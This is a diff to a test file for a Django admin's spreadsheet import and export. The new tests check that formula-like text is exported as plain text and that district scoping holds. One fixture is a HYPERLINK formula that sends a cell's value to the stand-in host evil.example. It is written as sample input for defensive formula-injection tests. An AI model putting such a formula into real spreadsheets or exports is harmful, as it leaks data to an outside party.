@@ -1,8 +1,10 @@
 """Excel and CSV through the admin: an export imported back changes nothing; a file with one
 bad row is refused whole, with its errors by row and column; scoping holds in imports."""
 
+import csv
 import datetime
 import importlib.util
+import io
 from decimal import Decimal
 from pathlib import Path
 
@@ -117,6 +119,55 @@ def test_a_reporters_round_trip_changes_nothing(ledger, model):
     assert snapshot() == before
 
 
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def exported_cells(content, fmt, column):
+    """{column header: (value, is text)} of every exported row, as a spreadsheet reads it."""
+    if fmt == "xlsx":
+        rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
+        index = [cell.value for cell in rows[0]].index(column)
+        return [
+            (row[index].value, row[index].data_type, row[index].quotePrefix) for row in rows[1:]
+        ]
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    index = rows[0].index(column)
+    return [row[index] for row in rows[1:]]
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_exports_keep_formula_like_text_as_text_and_import_back_unchanged(world, fmt):
+    ProblemFactory(district=world.hualong, enterprise=world.enterprise, title=FORMULA_TITLE)
+    world.cadre.phone = "+86 139 0000 0000"
+    world.cadre.save()
+    world.project.name = "@SUM(1+1)"
+    world.project.longitude = Decimal("-115.029876")  # a negative number stays a number
+    world.project.save()
+    client = client_for(world.city_admin)
+    problems, projects = export(client, Problem, fmt), export(client, Project, fmt)
+    cadres = export(client, Cadre, fmt)
+
+    if fmt == "xlsx":
+        assert exported_cells(problems, fmt, "Title") == [(FORMULA_TITLE, "s", True)]
+        assert exported_cells(cadres, fmt, "Phone") == [("+86 139 0000 0000", "s", True)]
+        assert ("@SUM(1+1)", "s", True) in exported_cells(projects, fmt, "Name")
+        assert (-115.029876, "n", False) in exported_cells(projects, fmt, "Longitude")
+    else:
+        assert exported_cells(problems, fmt, "Title") == ["'" + FORMULA_TITLE]
+        assert exported_cells(cadres, fmt, "Phone") == ["'+86 139 0000 0000"]
+        assert "'@SUM(1+1)" in exported_cells(projects, fmt, "Name")
+        assert "-115.029876" in exported_cells(projects, fmt, "Longitude")
+
+    before = snapshot()
+    for model, content in ((Problem, problems), (Project, projects), (Cadre, cadres)):
+        checked = dry_run(client, model, content, fmt)
+        result = checked.context["result"]
+        assert not result.has_errors() and not result.has_validation_errors()
+        assert result.totals["skip"] == model.objects.count()
+        confirm(client, model, checked)
+    assert snapshot() == before
+
+
 # --- Bad files -----------------------------------------------------------------------------------
 
 
@@ -207,6 +258,18 @@ def test_a_reporter_cannot_overwrite_another_districts_project_by_its_code(world
     assert result.has_validation_errors()
     world.other_project.refresh_from_db()
     assert world.other_project.name != "改名"
+
+
+def test_importing_another_districts_hidden_code_does_not_confirm_it(world):
+    world.other_project.is_published = False
+    world.other_project.save()
+    rows = [[world.other_project.code, "新项目", "hualong", "city", "industrial", "new", "1"]]
+    dataset = tablib.Dataset(*rows, headers=PROJECT_HEADERS)
+    result = ProjectResource(user=world.reporter).import_data(dataset)
+    [bad] = result.invalid_rows
+    assert bad.field_specific_errors == {
+        "Project code": ["This project code cannot be used; choose another one."]
+    }
 
 
 def test_a_reporter_cannot_name_another_districts_project_in_a_plan(world):
